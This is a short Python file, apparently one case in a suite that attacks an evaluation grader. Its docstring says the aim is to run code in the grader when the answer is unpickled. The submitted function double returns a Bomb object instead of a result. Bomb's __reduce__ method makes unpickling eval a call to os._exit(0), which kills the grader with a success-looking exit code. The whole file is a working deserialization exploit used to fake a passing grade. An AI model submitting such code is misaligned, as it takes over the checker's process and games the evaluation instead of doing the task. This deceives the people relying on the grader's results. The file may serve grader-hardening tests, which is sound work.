"""
aim: run code in the grader when the answer is unpickled
layer: wire
levels: A B C D
proof: naive pickled
"""


class Bomb:
    def __reduce__(self):
        return eval, ("__import__('os')._exit(0)",)


def double(x):
    return Bomb()


unit = table = double
